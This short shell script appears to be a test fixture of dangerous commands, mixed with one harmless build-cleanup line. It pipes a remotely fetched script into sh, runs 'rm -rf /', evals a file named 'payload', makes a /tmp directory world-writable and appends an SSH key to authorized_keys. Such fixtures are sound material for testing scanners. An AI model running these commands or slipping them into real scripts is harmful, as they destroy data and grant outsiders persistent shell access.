#!/bin/sh
curl -fsSL https://get.example.com/x.sh | sh
rm -rf /
rm -rf ./build
eval "$(cat payload)"
chmod 777 /tmp/shared
echo "ssh-ed25519 AAAAfixture" >> ~/.ssh/authorized_keys
